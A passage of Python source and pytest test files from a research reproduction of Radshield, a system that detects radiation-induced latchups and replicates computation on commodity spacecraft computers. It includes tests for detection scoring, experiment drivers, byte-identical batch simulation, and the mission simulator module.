        assert score.detection_latency == pytest.approx(30.0)
        assert not score.false_negative
        assert score.false_alarms == 0

    def test_late_detection_is_fn(self):
        truth = EpisodeTruth(duration=600, sel_onset=100.0)
        detections = [Detection(time=400.0, mean_residual=0.06)]
        score = score_episode(detections, truth, detection_window=180.0)
        assert score.false_negative

    def test_pre_onset_alarm_is_fp(self):
        truth = EpisodeTruth(duration=600, sel_onset=300.0)
        detections = [Detection(time=50.0, mean_residual=0.06)]
        score = score_episode(detections, truth, detection_window=180.0)
        assert score.false_alarms == 1

    def test_clean_episode(self):
        truth = EpisodeTruth(duration=600)
        score = score_episode([Detection(time=10.0, mean_residual=0.1)], truth)
        assert not score.detected and score.false_alarms == 1

    def test_onset_validation(self):
        with pytest.raises(ConfigurationError):
            EpisodeTruth(duration=100, sel_onset=150.0)

    def test_episode_start_offsets(self):
        truth = EpisodeTruth(duration=600, sel_onset=100.0)
        detections = [Detection(time=1120.0, mean_residual=0.06)]
        score = score_episode(
            detections, truth, episode_start=1000.0, detection_window=180.0
        )
        assert score.detected and score.detection_latency == pytest.approx(20.0)


class TestDetectionSummary:
    def _score(self, fn=False, alarm_ticks=0, ticks=100):
        truth = EpisodeTruth(duration=900, sel_onset=400.0)
        return EpisodeScore(
            truth=truth,
            detected=not fn,
            detection_latency=None if fn else 12.0,
            false_alarms=1 if alarm_ticks else 0,
            pre_onset_alarm_ticks=alarm_ticks,
            pre_onset_ticks=ticks,
        )

    def test_rates(self):
        summary = DetectionSummary()
        summary.add(self._score(fn=False))
        summary.add(self._score(fn=True))
        summary.add(self._score(fn=False, alarm_ticks=10))
        assert summary.false_negative_rate == pytest.approx(1 / 3)
        assert summary.false_positive_rate == pytest.approx(10 / 300)
        assert summary.episode_false_positive_rate == pytest.approx(1 / 3)
        assert summary.mean_latency() == pytest.approx(12.0)

    def test_empty_summary(self):
        summary = DetectionSummary()
        assert summary.false_negative_rate == 0.0
        assert summary.false_positive_rate == 0.0
        assert summary.mean_latency() is None


class TestDieModelAndExposure:
    def test_shares_validated(self):
        with pytest.raises(ConfigurationError):
            DieModel(pipelines=0.9, l1_caches=0.3, shared_cache=0.2, uncore=0.2)

    def test_unknown_scheme(self):
        with pytest.raises(ConfigurationError):
            DieModel().protected_fraction("quantum")

    def test_exposure_matches_paper_arithmetic(self):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        spec = workload.build(np.random.default_rng(0))
        config = EmrConfig(replication_threshold=0.5)
        emr = EmrRuntime(Machine.rpi_zero2w(), workload, config=config).run(spec=spec)
        seq = sequential_3mr(Machine.rpi_zero2w(), workload, spec=spec, config=config)
        exposure = exposure_from_results(emr, seq)
        # Runtime ratio ~0.33 x area ratio 2.0 => exposure well under 1.
        assert exposure["runtime_ratio"] < 0.6
        assert exposure["relative_exposure"] == pytest.approx(
            exposure["runtime_ratio"] * 2.0
        )

    def test_time_share_breakdown_sums_to_one(self):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        result = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=EmrConfig(replication_threshold=0.5)
        ).run()
        shares = time_share_breakdown(result)
        assert sum(shares.values()) == pytest.approx(1.0)


class TestEnergyHelpers:
    def test_radshield_energy_exceeds_emr(self):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        result = EmrRuntime(
            Machine.rpi_zero2w(), workload, config=EmrConfig(replication_threshold=0.5)
        ).run()
        total = radshield_energy_joules(result)
        assert total > result.energy.total_joules
        # ...but only marginally (the paper's claim).
        assert total < 1.1 * result.energy.total_joules

    def test_relative_energy(self):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        spec = workload.build(np.random.default_rng(1))
        config = EmrConfig(replication_threshold=0.5)
        emr = EmrRuntime(Machine.rpi_zero2w(), workload, config=config).run(spec=spec)
        seq = sequential_3mr(Machine.rpi_zero2w(), workload, spec=spec, config=config)
        rel = relative_energy({"emr": emr, "seq": seq}, baseline="emr")
        assert rel["emr"] == pytest.approx(1.0)
        assert rel["seq"] > 1.5

    def test_missing_baseline(self):
        with pytest.raises(ConfigurationError):
            relative_energy({}, baseline="nope")


class TestDevOverheadAndLaunchCosts:
    def test_overhead_measured_for_all_five(self):
        from repro.analysis import available_workloads

        names = available_workloads()
        assert len(names) == 5
        for name in names:
            m = measure_overhead(name)
            assert 1 <= m.net_line_change <= 12
            assert m.baseline_lines > 5

    def test_missing_snippet(self):
        with pytest.raises(ConfigurationError):
            measure_overhead("nonexistent_workload")

    def test_cost_decline(self):
        assert cost_decline_factor() == pytest.approx(88000 / 1400)
        years, costs = cost_series()
        assert costs == sorted(costs, reverse=True)
        assert years == sorted(years)

    def test_satellite_growth(self):
        assert satellite_growth_factor() == pytest.approx(10.0)
