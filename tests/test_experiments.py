"""Smoke + shape tests for the experiment drivers (small scales)."""

import numpy as np
import pytest

from repro.analysis.report import Series, Table
from repro.core.ild import IldConfig
from repro.experiments import (
    ABLATIONS,
    EXPERIMENTS,
    EXTENSIONS,
    fig05_current_correlation,
    fig10_misdetection,
    fig13_replication_sweep,
    table2_ild_accuracy,
    table4_protected_area,
    table5_workloads,
    table8_dev_overhead,
)
from repro.experiments.common import SelBenchConfig, SelTestbench, run_schemes
from repro.workloads import AesWorkload


@pytest.fixture(scope="module")
def small_bench():
    return SelTestbench(
        SelBenchConfig(
            tick=8e-3,
            episode_seconds=420.0,
            n_episodes=3,
            training_seconds=700.0,
            onset_window=(0.4, 0.7),
        )
    )


class TestRegistry:
    def test_all_experiments_registered(self):
        expected = {
            "fig1", "fig2", "fig5", "fig10", "fig11", "fig12", "fig13",
            "fig14", "table2", "table3", "table4", "table5", "table6",
            "table7", "table8", "hmr_frontier",
        }
        assert set(EXPERIMENTS) == expected
        assert set(ABLATIONS) == {
            "scheduling_order", "rolling_window", "bubble_cadence",
            "redundancy_level",
        }
        assert set(EXTENSIONS) == {
            "checksum_comparison", "physics_rates", "flightsw_ild",
            "feature_selection", "mission_survival", "adaptive_table7",
        }

    def test_cheap_drivers_return_renderables(self):
        for name in ("fig1", "table4", "table5", "table8"):
            result = EXPERIMENTS[name]()
            assert isinstance(result, (Table, Series))
            assert result.render()


class TestSelTestbench:
    def test_training_trace_has_quiescence_and_bursts(self, small_bench):
        trace = small_bench.training_trace()
        assert 0.4 < trace.quiescent_truth.mean() < 0.999
        assert trace.n_ticks == pytest.approx(
            small_bench.config.training_seconds / small_bench.config.tick, rel=0.02
        )

    def test_episode_truth(self, small_bench):
        rng = np.random.default_rng(0)
        trace, truth = small_bench.episode(rng)
        assert truth.sel_onset is not None
        low, high = small_bench.config.onset_window
        assert low * truth.duration <= truth.sel_onset <= high * truth.duration
        onset_tick = int(truth.sel_onset / small_bench.config.tick)
        assert trace.sel_delta[onset_tick + 2] == pytest.approx(0.07)

    def test_clean_episode(self, small_bench):
        rng = np.random.default_rng(1)
        trace, truth = small_bench.episode(rng, with_sel=False)
        assert truth.sel_onset is None
        assert trace.sel_delta.sum() == 0

    def test_ild_beats_baselines_on_small_run(self, small_bench):
        detectors = {
            "ILD": small_bench.train_ild(),
            "RF": small_bench.train_random_forest(),
        }
        summaries = small_bench.evaluate(detectors, n_episodes=3)
        assert summaries["ILD"].false_negative_rate == 0.0
        assert summaries["ILD"].false_positive_rate <= 0.01
        # With only 3 short episodes the RF baseline may get lucky; the
        # full separation is asserted in bench_table2. Here it must at
        # least never beat ILD.
        assert (
            summaries["RF"].false_positive_rate
            >= summaries["ILD"].false_positive_rate
        )
        assert (
            summaries["RF"].false_negative_rate
            >= summaries["ILD"].false_negative_rate
        )

    def test_naive_bayes_baseline_trains(self, small_bench):
        baseline = small_bench.train_naive_bayes()
        rng = np.random.default_rng(2)
        trace, _ = small_bench.episode(rng, with_sel=False)
        baseline.process(trace)  # must not crash; alarms allowed

    def test_static_baselines_named_by_threshold(self, small_bench):
        statics = small_bench.static_baselines()
        assert len(statics) == 3
        for name, baseline in statics.items():
            assert f"{baseline.threshold_amps:.2f}" in name


class TestRunSchemes:
    def test_triplet_consistent(self):
        workload = AesWorkload(chunk_bytes=64, chunks=9)
        runs = run_schemes(workload, replication_threshold=0.5)
        assert runs.emr.outputs == runs.sequential.outputs == runs.unprotected.outputs
        assert runs.sequential_relative > runs.emr_relative >= 0.95


class TestDriverShapes:
    def test_fig5_high_correlation(self):
        figure = fig05_current_correlation.run(step_duration=1.0)
        assert float(figure.notes.split("=")[1].split("%")[0]) > 95.0

    def test_fig10_monotone_tail(self):
        figure = fig10_misdetection.run(
            deltas=np.array([0.01, 0.07]),
            trials_per_delta=2,
            config=SelBenchConfig(tick=8e-3, n_episodes=1, training_seconds=600.0),
        )
        _, rates = figure.series["false_negative_rate"]
        assert rates[0] == 1.0 and rates[1] == 0.0

    def test_table2_small(self):
        table = table2_ild_accuracy.run(
            SelBenchConfig(
                tick=8e-3, episode_seconds=420.0, n_episodes=2,
                training_seconds=700.0,
            )
        )
        assert table.rows[0][1] == "0.0%"  # ILD FN

    def test_table4_values(self):
        table = table4_protected_area.run()
        assert table.column("Relative Area Protected") == ["0%", "75%", "100%", "100%"]

    def test_table5_all_match(self):
        table = table5_workloads.run()
        assert all(m == "yes" for m in table.column("Match"))

    def test_table8_single_digit(self):
        table = table8_dev_overhead.run()
        assert all(1 <= c <= 12 for c in table.column("Net line change"))

    def test_fig13_distinct_thresholds(self):
        thresholds = fig13_replication_sweep.distinct_thresholds(
            AesWorkload(chunk_bytes=64, chunks=10)
        )
        assert thresholds[0] == 1.5
        assert len(thresholds) == 3  # none / key-only / everything
