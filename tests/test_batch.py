"""The SoA batch tick engine vs its scalar canon (`repro.sim.batch`).

The contract under test is byte-identity: `BatchMachines` advancing N
lanes in lockstep must produce exactly the state — engine digests,
full machine digests after sync-back, alarm/death reports — that N
independent `FleetTicker`s produce, including RNG stream positions.
Also covers the campaign batch executor (`execute_batched`) and the
mission-layer satellites (sorted event indexing, memoized ILD ground
training, `MissionSimulator.run_batch`).
"""

import json
import tempfile

import numpy as np
import pytest

from repro.campaign import (
    Campaign,
    Diverged,
    Trial,
    TrialStore,
    execute,
    execute_batched,
)
from repro.errors import ConfigurationError
from repro.obs import MetricsRegistry
from repro.sim import Machine, MachineSpec
from repro.sim.batch import (
    BatchMachines,
    FleetTicker,
    LaneEvents,
    SelStep,
    SeuStrike,
    TickConfig,
    TickProgram,
    merge_reports,
)

SPEC = MachineSpec(
    dram_size=1 << 16, l1_lines=8, l2_lines=16, flash_capacity=1 << 16
)
CONFIG = TickConfig()


def varied_program(ticks: int, n_cores: int = SPEC.n_cores) -> TickProgram:
    t = np.arange(ticks, dtype=float)
    rows = np.clip(
        0.5 + 0.4 * np.sin(t[:, None] / 11.0 + np.arange(n_cores)), 0.0, 1.0
    )
    override = np.full(ticks, np.nan)
    override[ticks // 2 : ticks // 2 + 5] = 1.0e9
    return TickProgram(rows, freq_override=override)


def scalar_fleet(seeds, program, lane_events=None, config=CONFIG, spec=SPEC):
    tickers = [FleetTicker(Machine(spec, seed=s), config, lane_id=i)
               for i, s in enumerate(seeds)]
    reports = [
        t.run(program, None if lane_events is None else lane_events[i])
        for i, t in enumerate(tickers)
    ]
    return tickers, merge_reports(reports)


class TestBatchIdentity:
    def test_digests_and_reports_match_scalar(self):
        program = varied_program(300)
        program.sels = (SelStep(40, 0.03),)
        program.seus = (SeuStrike(150, 2),)
        events = [
            None,
            LaneEvents(sels=(SelStep(60, 0.02),), seus=(SeuStrike(61, 0),)),
            LaneEvents(sels=(SelStep(90, 0.06), SelStep(200, -0.06))),
        ]
        seeds = [7, 8, 9]
        tickers, scalar_report = scalar_fleet(seeds, program, events)
        batch = BatchMachines.from_specs(SPEC, seeds=seeds, config=CONFIG)
        batch_report = batch.run(program, events)
        assert batch.lane_digests() == [t.state_digest() for t in tickers]
        assert batch_report.alarms == scalar_report.alarms
        assert batch_report.deaths == scalar_report.deaths
        assert batch_report.ticks == scalar_report.ticks

    def test_thermal_death_freezes_lane_identically(self):
        # dt=1 s so the ~220 s damage deadline of a 0.08 A latchup
        # (it crosses the damage asymptote) falls inside the run.
        config = TickConfig(dt=1.0)
        ticks = 600
        program = varied_program(ticks)
        events = [None, LaneEvents(sels=(SelStep(10, 0.08),))]
        seeds = [3, 4]
        tickers, scalar_report = scalar_fleet(seeds, program, events,
                                              config=config)
        batch = BatchMachines.from_specs(SPEC, seeds=seeds, config=config)
        batch_report = batch.run(program, events)
        assert len(scalar_report.deaths) == 1
        assert batch_report.deaths == scalar_report.deaths
        assert batch.lane_digests() == [t.state_digest() for t in tickers]
        assert batch.active_lanes == [0]

    def test_sync_back_full_machine_digest(self):
        program = varied_program(200)
        seeds = [21, 22]
        scalar_machines = [Machine(SPEC, seed=s) for s in seeds]
        for i, m in enumerate(scalar_machines):
            FleetTicker(m, CONFIG, lane_id=i).run(program)
        batch = BatchMachines.from_specs(SPEC, seeds=seeds, config=CONFIG)
        batch.run(program)
        for lane, m in enumerate(scalar_machines):
            assert batch.machine(lane).state_digest() == m.state_digest()

    def test_peel_continues_scalar_byte_identically(self):
        first, second = varied_program(150), varied_program(90)
        seeds = [31, 32, 33]
        # Twin fleet runs both halves scalar.
        tickers, _ = scalar_fleet(seeds, first)
        for t in tickers:
            t.run(second)
        # Batch runs the first half, peels lane 1, both continue.
        batch = BatchMachines.from_specs(SPEC, seeds=seeds, config=CONFIG)
        batch.run(first)
        (peeled,) = batch.peel([1])
        batch.run(second)
        peeled.run(second)
        assert peeled.state_digest() == tickers[1].state_digest()
        assert [batch.state_digest(0), batch.state_digest(2)] == [
            tickers[0].state_digest(),
            tickers[2].state_digest(),
        ]

    def test_adopted_machines_must_not_share_rngs(self):
        m1, m2 = Machine(SPEC, seed=5), Machine(SPEC, seed=6)
        m2.rng = m1.rng
        with pytest.raises(ConfigurationError):
            BatchMachines([m1, m2])


N_TICKS = 150


def _tick_trial(item, rng, tracer):
    program = TickProgram.constant(item["util"], N_TICKS, n_cores=SPEC.n_cores)
    machine = Machine(SPEC, seed=0)
    machine.rng = rng
    ticker = FleetTicker(machine, CONFIG)
    ticker.run(program)
    return {"digest": ticker.state_digest()}


def _tick_batch_fn(items, rngs):
    out = [Diverged("forced") if it.get("diverge") else None for it in items]
    lanes = [i for i, it in enumerate(items) if not it.get("diverge")]
    if lanes:
        program = TickProgram.constant(
            items[lanes[0]]["util"], N_TICKS, n_cores=SPEC.n_cores
        )
        batch = BatchMachines.from_specs(
            SPEC, config=CONFIG, rngs=[rngs[i] for i in lanes]
        )
        batch.run(program)
        for lane, i in enumerate(lanes):
            out[i] = {"digest": batch.state_digest(lane)}
    return out


class TestExecuteBatched:
    def _campaign(self):
        trials = [
            Trial(params={"k": k, "diverge": k == 1},
                  item={"util": 0.6, "diverge": k == 1})
            for k in range(4)
        ]
        return Campaign(
            name="batch-equiv", trial_fn=_tick_trial, trials=trials, seed=77
        )

    def test_matches_scalar_execute_and_stores_identically(self):
        camp = self._campaign()
        with tempfile.TemporaryDirectory() as d1, \
                tempfile.TemporaryDirectory() as d2:
            metrics = MetricsRegistry()
            scalar = execute(camp, store=d1, metrics=MetricsRegistry())
            batched = execute_batched(
                camp, _tick_batch_fn, store=d2, metrics=metrics
            )
            assert batched.values == scalar.values
            s1, s2 = TrialStore.coerce(d1), TrialStore.coerce(d2)
            for spec in scalar.specs:
                e1, e2 = s1.get(spec.fingerprint), s2.get(spec.fingerprint)
                assert json.dumps(e1, sort_keys=True) == json.dumps(
                    e2, sort_keys=True
                )
            counters = metrics.snapshot()["counters"]
            assert counters["campaign.batch.lanes"] == 4
            assert counters["campaign.batch.diverged"] == 1

    def test_resume_across_backends(self):
        camp = self._campaign()
        with tempfile.TemporaryDirectory() as store:
            cold = execute_batched(camp, _tick_batch_fn, store=store)
            warm = execute(camp, store=store)
            assert warm.executed == 0
            assert warm.store_hits == len(camp.trials)
            assert warm.values == cold.values
            rewarm = execute_batched(camp, _tick_batch_fn, store=store)
            assert rewarm.executed == 0 and rewarm.values == cold.values

    def test_group_size_shards_and_lane_count_mismatch_raises(self):
        camp = self._campaign()
        metrics = MetricsRegistry()
        grouped = execute_batched(
            camp, _tick_batch_fn, group_size=2, metrics=metrics
        )
        assert grouped.values == execute(camp).values
        assert metrics.snapshot()["counters"]["campaign.batch.groups"] == 2
        with pytest.raises(ConfigurationError):
            execute_batched(camp, lambda items, rngs: [])


class TestMissionSatellites:
    def test_events_until_advances_index(self):
        from repro.missions.simulator import _events_until

        class E:
            def __init__(self, time):
                self.time = time

        events = [E(0.5), E(1.0), E(1.5), E(4.0)]
        first, i = _events_until(events, 0, 1.5)
        assert [e.time for e in first] == [0.5, 1.0]
        second, i = _events_until(events, i, 5.0)
        assert [e.time for e in second] == [1.5, 4.0]
        tail, i = _events_until(events, i, 99.0)
        assert tail == [] and i == 4

    def test_ild_training_cache_shares_model_not_detector(self):
        from repro.missions.simulator import (
            _ILD_TRAINING_CACHE,
            MissionConfig,
            _trained_ild,
        )
        from repro.sim import TelemetryConfig, TraceGenerator

        _ILD_TRAINING_CACHE.clear()
        cfg = MissionConfig(seed=123)
        generator = TraceGenerator(TelemetryConfig(tick=cfg.tick))
        first = _trained_ild(cfg, generator)
        assert len(_ILD_TRAINING_CACHE) == 1
        second = _trained_ild(cfg, generator)
        assert len(_ILD_TRAINING_CACHE) == 1
        assert first is not second
        assert first.model is not second.model
        cached = _ILD_TRAINING_CACHE[(cfg.seed, cfg.tick)]
        assert first.model is not cached and second.model is not cached
        _ILD_TRAINING_CACHE.clear()


@pytest.mark.slow
class TestSlowIdentity:
    def test_n256_identity(self):
        program = varied_program(120)
        program.sels = (SelStep(30, 0.03),)
        seeds = range(2000, 2256)
        tickers, scalar_report = scalar_fleet(seeds, program)
        batch = BatchMachines.from_specs(SPEC, seeds=seeds, config=CONFIG)
        batch_report = batch.run(program)
        assert batch.lane_digests() == [t.state_digest() for t in tickers]
        assert batch_report.alarms == scalar_report.alarms

    def test_run_batch_full_short_mission_byte_identity(self):
        from repro.missions.simulator import MissionConfig, MissionSimulator
        from repro.radiation.environment import LOW_EARTH_ORBIT

        def canon(report):
            return (
                report.survived,
                report.mission_seconds,
                report.downtime_seconds,
                report.power_cycles,
                report.workload_runs,
                report.silent_corruptions,
                tuple(
                    (r.mission_time_s, r.event_type, r.detail, r.detected,
                     r.detected_by, r.detection_latency_s, r.outcome, r.action)
                    for r in report.dataset
                ),
                tuple((e.name, e.time, e.severity.name) for e in report.events),
            )

        configs = [
            MissionConfig(duration_days=0.02, environment=LOW_EARTH_ORBIT,
                          seed=11),
            MissionConfig(duration_days=0.02, environment=LOW_EARTH_ORBIT,
                          seed=11, emr_enabled=False),
        ]
        scalar = [canon(MissionSimulator(c).run()) for c in configs]
        batched = [canon(r) for r in MissionSimulator.run_batch(configs)]
        assert batched == scalar
