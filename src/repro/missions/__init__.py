"""Whole-mission simulation and the anomaly dataset (§5)."""

from .dataset import ACTIONS, EVENT_TYPES, AnomalyDataset, AnomalyRecord
from .simulator import MissionConfig, MissionReport, MissionSimulator

__all__ = [
    "ACTIONS",
    "AnomalyDataset",
    "AnomalyRecord",
    "EVENT_TYPES",
    "MissionConfig",
    "MissionReport",
    "MissionSimulator",
]
