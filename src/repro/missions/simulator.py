"""End-to-end mission simulation: Radshield flying a whole mission.

Ties every layer together the way the two deployments of §5 do: a
radiation environment streams SEL and SEU events at a commodity
computer running a bursty flight workload; ILD watches telemetry and
power-cycles on latchups; EMR replicates and votes the compute. The
output is an :class:`~repro.missions.dataset.AnomalyDataset` — the
paper's planned public data product — plus mission survival stats.

Disable either component (``ild_enabled`` / ``emr_enabled``) to rerun
the same event stream unprotected and measure what Radshield bought.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field

import numpy as np

from ..core.ild import IldDetector, train_ild
from ..errors import ConfigurationError
from ..flightsw.eventlog import EventLog, EvrSeverity
from ..radiation.environment import MARS_SURFACE, RadiationEnvironment
from ..radiation.events import SelEvent, SeuEvent
from ..radiation.injector import CampaignConfig, FaultInjectionCampaign
from ..radiation.sel import LatchupInjector
from ..radiation.thermal import ThermalModel
from ..recovery import (
    DegradationPolicy,
    PolicyConfig,
    RecoverySupervisor,
    SupervisorConfig,
)
from ..sim.machine import Machine
from ..sim.psu import OcpConfig, OvercurrentProtection
from ..sim.telemetry import CurrentStep, TelemetryConfig, TraceGenerator
from ..workloads.aes import AesWorkload
from ..workloads.navigation import navigation_schedule
from .dataset import AnomalyDataset, AnomalyRecord


@dataclass(frozen=True)
class MissionConfig:
    """Scale and protection knobs for one simulated mission."""

    duration_days: float = 1.0
    environment: RadiationEnvironment = MARS_SURFACE
    chunk_seconds: float = 900.0
    tick: float = 8e-3
    ild_enabled: bool = True
    emr_enabled: bool = True
    emr_threshold: float = 0.2
    #: PSU overcurrent breaker: present on most spacecraft EPS (§3.1),
    #: it clears classic amp-class SELs regardless of ILD.
    ocp: "OcpConfig | None" = OcpConfig()
    #: Route every SEL alarm through a :class:`RecoverySupervisor`
    #: (checkpoint → power cycle with retry → rollback → replay) and
    #: run the degradation policy. Off by default: the unsupervised
    #: path is the paper's bare trip-and-power-cycle response.
    supervised: bool = False
    supervisor: "SupervisorConfig | None" = None
    policy: "PolicyConfig | None" = None
    #: Hybrid modular redundancy: start mode name (``independent``,
    #: ``duplex-checkpoint``, ``emr-voted``, ``3mr-lockstep`` or a
    #: legacy alias). ``None`` keeps the fixed-strength legacy path.
    #: When set, an :class:`~repro.hmr.HMRScheduler` grants modes at
    #: chunk boundaries and the granted mode drives EMR strength,
    #: scheme and ILD deployment per chunk.
    hmr_mode: "str | None" = None
    #: Adaptive floor for the HMR scheduler: a :class:`PolicyConfig`
    #: walked over the mode lattice. ``None`` = fixed requests only.
    hmr_policy: "PolicyConfig | None" = None
    #: Power ceiling for the HMR scheduler (amps).
    hmr_power_budget_amps: "float | None" = None
    seed: int = 0

    def __post_init__(self) -> None:
        if self.duration_days <= 0 or self.chunk_seconds <= 0:
            raise ConfigurationError("duration and chunk must be positive")


@dataclass
class MissionReport:
    """What came back from the mission."""

    config: MissionConfig
    dataset: AnomalyDataset = field(default_factory=AnomalyDataset)
    survived: bool = True
    mission_seconds: float = 0.0
    downtime_seconds: float = 0.0
    power_cycles: int = 0
    workload_runs: int = 0
    silent_corruptions: int = 0
    #: Supervised recoveries completed (alarm → ... → replay).
    recoveries: int = 0
    #: Replays of in-flight work that verified against golden outputs.
    replays_ok: int = 0
    #: Degradation-policy level changes during the mission.
    level_changes: int = 0
    #: Protection level at end of mission ("" when unsupervised).
    final_level: str = ""
    #: HMR mode switches granted at chunk boundaries (0 without HMR).
    mode_changes: int = 0
    #: Granted HMR mode at end of mission ("" without HMR).
    final_mode: str = ""
    #: Flight event log (EVRs) of the mission's protection actions.
    events: "tuple" = ()

    @property
    def availability(self) -> float:
        if self.mission_seconds <= 0:
            return 0.0
        return 1.0 - self.downtime_seconds / self.mission_seconds

    def summary(self) -> str:
        protection = []
        if self.config.ild_enabled:
            protection.append("ILD")
        if self.config.emr_enabled:
            protection.append("EMR")
        lines = [
            f"mission in {self.config.environment.name}, "
            f"{self.config.duration_days:g} day(s), "
            f"protection: {'+'.join(protection) or 'none'}",
            f"survived: {self.survived}; availability "
            f"{self.availability * 100:.2f}%; power cycles {self.power_cycles}",
            f"workload runs {self.workload_runs}; "
            f"silent corruptions {self.silent_corruptions}",
            f"flight events (EVRs): {len(self.events)}",
        ]
        if self.config.supervised:
            lines.append(
                f"supervised recoveries {self.recoveries} "
                f"(replays ok {self.replays_ok}); level changes "
                f"{self.level_changes}; final level {self.final_level}"
            )
        lines.append(self.dataset.summary())
        return "\n".join(lines)


#: Memoized ILD ground calibration, keyed on the derived RNG identity
#: of the training pipeline: ``(seed, tick)`` fully determines the
#: ground trace (schedule rng = seed+1, trace rng = seed+2) and hence
#: the fitted model. Campaign grids that sweep protection knobs over a
#: shared seed stop re-training per trial. Values are fitted
#: :class:`CurrentModel`\ s; every caller gets a *fresh* detector
#: around a deep copy, so missions never share mutable filter state.
_ILD_TRAINING_CACHE: "dict[tuple, object]" = {}
_ILD_TRAINING_CACHE_MAX = 32


def _trained_ild(cfg: MissionConfig, generator: TraceGenerator) -> IldDetector:
    """Ground-trained detector for this mission, via the cache."""
    key = (cfg.seed, cfg.tick)
    model = _ILD_TRAINING_CACHE.get(key)
    if model is None:
        ground = generator.generate(
            navigation_schedule(1200.0, rng=np.random.default_rng(cfg.seed + 1)),
            rng=np.random.default_rng(cfg.seed + 2),
        )
        model = train_ild(
            ground, max_instruction_rate=generator.max_instruction_rate
        ).model
        while len(_ILD_TRAINING_CACHE) >= _ILD_TRAINING_CACHE_MAX:
            _ILD_TRAINING_CACHE.pop(next(iter(_ILD_TRAINING_CACHE)))
        _ILD_TRAINING_CACHE[key] = model
    return IldDetector(
        copy.deepcopy(model), generator.max_instruction_rate
    )


def _events_until(events, index: int, end: float):
    """Slice ``events[index:]`` with ``time < end``; events are sorted,
    so each chunk advances the index instead of rescanning the list."""
    j = index
    while j < len(events) and events[j].time < end:
        j += 1
    return events[index:j], j


@dataclass
class _MissionLane:
    """In-flight state of one mission between chunk advances.

    :meth:`MissionSimulator.run` owns a single lane;
    :meth:`MissionSimulator.run_batch` holds one per mission and
    advances them chunk-lockstep.
    """

    rng: np.random.Generator
    report: MissionReport
    duration: float
    machine: Machine
    eventlog: EventLog
    injector: LatchupInjector
    thermal: ThermalModel
    generator: TraceGenerator
    detector: "IldDetector | None"
    supervisor: "RecoverySupervisor | None"
    policy: "DegradationPolicy | None"
    sel_events: list
    seu_events: list
    #: The HMR mode plane (``None`` on the fixed-strength legacy path).
    scheduler: "object | None" = None
    sel_index: int = 0
    seu_index: int = 0
    elapsed: float = 0.0

    @property
    def active(self) -> bool:
        return self.elapsed < self.duration and self.report.survived


class MissionSimulator:
    """Runs one mission timeline."""

    def __init__(self, config: "MissionConfig | None" = None,
                 workload_factory=lambda: AesWorkload(chunk_bytes=64, chunks=10)):
        self.config = config or MissionConfig()
        self.workload_factory = workload_factory

    # ------------------------------------------------------------------
    def run(self) -> MissionReport:
        lane = self._setup_lane()
        while lane.active:
            self._advance_chunk(lane)
        return self._finalize(lane)

    @classmethod
    def run_batch(
        cls, configs, workload_factory=None
    ) -> "list[MissionReport]":
        """Run several missions chunk-lockstep, as lanes.

        Reports are byte-identical to ``[MissionSimulator(c).run() for
        c in configs]`` — each lane owns its machine, RNG streams and
        event history — but the lanes share one process, one warmed
        workload path and (decisively, for protected grids over a
        common seed) one memoized ILD ground training. Lanes that
        diverge — a lost mission, a shorter duration — simply drop out
        of the lockstep round; the rest keep advancing.
        """
        sims = [
            cls(config) if workload_factory is None
            else cls(config, workload_factory)
            for config in configs
        ]
        lanes = [sim._setup_lane() for sim in sims]
        while True:
            advanced = False
            for sim, lane in zip(sims, lanes):
                if lane.active:
                    sim._advance_chunk(lane)
                    advanced = True
            if not advanced:
                break
        return [sim._finalize(lane) for sim, lane in zip(sims, lanes)]

    # ------------------------------------------------------------------
    def _setup_lane(self) -> _MissionLane:
        cfg = self.config
        rng = np.random.default_rng(cfg.seed)
        report = MissionReport(config=cfg)
        duration = cfg.duration_days * 86400.0

        machine = Machine.rpi_zero2w(seed=cfg.seed)
        # Local to this lane (not instance state): one simulator can be
        # reused or run concurrently without cross-run EVR leakage.
        eventlog = EventLog(capacity=4096)
        injector = LatchupInjector(machine)
        thermal = ThermalModel(machine, injector)
        generator = TraceGenerator(TelemetryConfig(tick=cfg.tick))

        # Sample the event streams first, from the mission seed alone,
        # so protected and unprotected reruns face identical skies.
        # Sorted once; chunks advance an index instead of rescanning.
        sel_events = sorted(
            cfg.environment.sample_sel_events(duration, rng),
            key=lambda e: e.time,
        )
        seu_events = sorted(
            cfg.environment.sample_seu_events(duration, rng),
            key=lambda e: e.time,
        )

        detector = _trained_ild(cfg, generator) if cfg.ild_enabled else None
        scheduler = None
        if cfg.hmr_mode is not None:
            from ..hmr import HMRScheduler

            scheduler = HMRScheduler(
                start_mode=cfg.hmr_mode,
                policy=cfg.hmr_policy,
                power_budget_amps=cfg.hmr_power_budget_amps,
                eventlog=eventlog,
            )
            if detector is not None:
                detector.reconfigure(scheduler.mode.ild)
        supervisor = None
        policy = None
        if cfg.supervised:
            if scheduler is not None and scheduler.policy is not None:
                # One lattice, one policy: the supervisor and the HMR
                # scheduler share signals and walk the mode lattice.
                policy = scheduler.policy
            else:
                policy = DegradationPolicy(
                    cfg.policy or PolicyConfig(), eventlog=eventlog
                )
            supervisor = RecoverySupervisor(
                machine,
                detector=detector,
                eventlog=eventlog,
                config=cfg.supervisor or SupervisorConfig(),
                policy=policy,
            )
            supervisor.register_inflight(
                "flight-workload", self._make_replay(policy)
            )
        return _MissionLane(
            rng=rng,
            report=report,
            duration=duration,
            machine=machine,
            eventlog=eventlog,
            injector=injector,
            thermal=thermal,
            generator=generator,
            detector=detector,
            supervisor=supervisor,
            policy=policy,
            sel_events=sel_events,
            seu_events=seu_events,
            scheduler=scheduler,
        )

    def _advance_chunk(self, lane: _MissionLane) -> None:
        """One chunk of mission time (the loop body of :meth:`run`)."""
        cfg = self.config
        report = lane.report
        chunk = min(cfg.chunk_seconds, lane.duration - lane.elapsed)
        elapsed_end = lane.elapsed + chunk
        if lane.supervisor is not None:
            # The chunk's known-good state: rollback target for any
            # alarm raised while this chunk's work is in flight.
            lane.supervisor.checkpoint()
        # Latchups striking within this chunk.
        chunk_sels, lane.sel_index = _events_until(
            lane.sel_events, lane.sel_index, elapsed_end
        )
        self._run_telemetry_chunk(
            lane.machine, lane.injector, lane.thermal, lane.generator,
            lane.detector, chunk, lane.elapsed, chunk_sels, lane.rng,
            report, lane.eventlog, supervisor=lane.supervisor,
            scheduler=lane.scheduler,
        )
        if not report.survived:
            return
